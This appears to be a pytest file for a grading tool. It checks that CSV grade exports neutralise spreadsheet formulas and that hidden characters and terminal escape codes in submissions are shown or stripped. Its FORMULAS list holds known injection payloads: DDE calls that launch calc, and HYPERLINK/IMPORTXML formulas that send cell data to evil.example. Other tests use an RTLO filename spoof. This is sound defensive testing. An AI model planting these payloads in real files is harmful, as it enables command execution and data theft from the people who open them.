"""grades.csv in a spreadsheet, and text from submissions made fit to be read."""

from __future__ import annotations

import csv
import time
from dataclasses import replace
from pathlib import Path

import pytest
from report_records import a_class

from helpers.errors import CourseError
from helpers.grading.core import Record, Result
from helpers.grading.reports.grades_csv import COLUMNS, GradesCsv, neutralised, plain
from helpers.grading.reports.rows import rows_of
from helpers.grading.reports.text import one_line, printed, visible, without_ansi

#: As they are found in advisories.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "\"=1+1",
    "x;=1+1",
    "x\t=1+1",
    "=1+1\";=1+1",
)  # fmt: skip


def read(path: Path, **how: str) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, **how))  # type: ignore[arg-type]


def is_formula(cell: str) -> bool:
    return cell.lstrip(" \t\r\n\ufeff\u200b").startswith(
        ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    )


def hostile(text: str) -> Record:
    finding = {"code": text, "message": text}
    result = Result("a-b", text, "wrong", 0.5, 2.0, (finding,))  # type: ignore[arg-type]
    return Record("0", text, text, (result,))


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_separates_the_cells(
    text: str, delimiter: str, tmp_path: Path
) -> None:
    path = tmp_path / "grades.csv"
    one = hostile(text)
    with GradesCsv(path) as table:
        table.add(one.student, one.lesson, rows_of(one))
        table.add_refused(text, text, text)
    cells = [cell for row in read(path, delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if is_formula(cell)] == []


def test_text_is_prefixed_and_numbers_stay_numbers(tmp_path: Path) -> None:
    assert neutralised("=1+1") == "'=1+1"
    assert neutralised("ann") == "ann"
    assert neutralised("o'neil; -2 left") == "o'neil; '-2 left"
    path = tmp_path / "grades.csv"
    result = Result("a-b", "a.b", "wrong", -0.5, 2.0)
    with GradesCsv(path) as table:
        table.add("-7", "l", rows_of(Record("0", "-7", "l", (result,))))
    header, row = read(path)
    assert tuple(header) == COLUMNS
    assert row[0] == "'-7"
    assert (float(row[3]), float(row[4])) == (-0.5, 2.0)
    assert [plain(value) for value in (2.0, 0.5, 5 / 3, 0.0)] == ["2", "0.5", "1.666667", "0"]


def test_the_file_opens_as_utf8_and_has_one_line_a_row(tmp_path: Path) -> None:
    path = tmp_path / "grades.csv"
    one = replace(hostile('José \n two lines, "quoted" \x1b[31mred\x1b[0m'), student="José")
    with GradesCsv(path) as table:
        table.add(one.student, one.lesson, rows_of(one))
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfstudent,lesson,exercise,points,max_points,verdict,")
    assert data.count(b"\n") == 2
    assert read(path)[1][7] == 'José two lines, "quoted" red'


def test_rows_come_as_they_are_given_and_nothing_is_left_of_a_broken_run(tmp_path: Path) -> None:
    path = tmp_path / "grades.csv"
    path.write_text("old")
    with pytest.raises(RuntimeError), GradesCsv(path) as table:
        for one in a_class(2):
            table.add(one.student, one.lesson, rows_of(one))
        raise RuntimeError
    assert path.read_text() == "old"
    assert [entry.name for entry in tmp_path.iterdir()] == ["grades.csv"]
    with pytest.raises(CourseError), GradesCsv(tmp_path / "no" / "grades.csv"):
        pass


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u202egpj.exe", "a⟨U+202E⟩gpj.exe"),
        ("pass\u200bword", "pass⟨U+200B⟩word"),
        ("\x00\x07", "␀␇"),
        ("\x00" * 30, "␀×30"),
        ("\u2066" * 3, "⟨U+2066 ×3⟩"),
        ("a\u0301", "a\u0301"),
        ("a" + "\u0301" * 60, "a⟨60 marks⟩"),
        ("\ud800", "⟨U+D800⟩"),
        ("10%\r20%\r\nend", "10%␍\n20%\nend"),
        ("سلام‌ها 👩‍👩‍👧", "سلام‌ها 👩‍👩‍👧"),
        ("x\u200d", "x⟨U+200D⟩"),
        ("tab\tand\nline", "tab\tand\nline"),
    ],
)
def test_hidden_characters_are_shown(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert visible(shown) == shown


def test_terminal_codes_go_and_their_text_stays() -> None:
    text = "\x1b[1;31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b2Jx\x1b(B"
    assert without_ansi(text) == "red link x"
    assert printed("\x1b[31m" + "y" * 30_000).endswith("more characters")
    assert one_line("a\n\n b\x1b[0m\x00" + "c" * 900, 20) == "a b␀cccccccccccccccc…"[:19] + "…"


@pytest.mark.parametrize(
    "part", ["\x1b]", "\x1b[", "\x1b[0;", "\u200b\u200c", "\u0301\u0302", "\r"]
)
def test_text_made_to_vex_takes_no_time(part: str) -> None:
    begin = time.process_time()
    printed(part * 100_000)
    assert time.process_time() - begin < 5
